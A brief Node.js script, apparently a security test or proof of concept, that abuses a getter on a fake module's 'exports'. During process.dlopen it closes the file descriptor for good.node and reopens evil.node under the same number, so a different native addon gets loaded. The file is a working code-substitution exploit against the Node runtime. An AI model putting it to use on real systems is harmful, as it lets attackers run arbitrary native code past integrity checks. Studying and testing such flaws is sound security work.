// Puts evil.node under the number when Node looks at the module's exports.
const fs = require('node:fs');

const module_ = {
  get exports() {
    swap();
    return {};
  },
};
const swap = () => {
  for (const name of fs.readdirSync('/proc/self/fd')) {
    try {
      if (!fs.readlinkSync(`/proc/self/fd/${name}`).endsWith('good.node')) continue;
      fs.closeSync(Number(name));
      fs.openSync(`${__dirname}/evil.node`);
    } catch {
      // The fd by which the list was read.
    }
  }
};
process.dlopen(module_, `${__dirname}/good.node`);
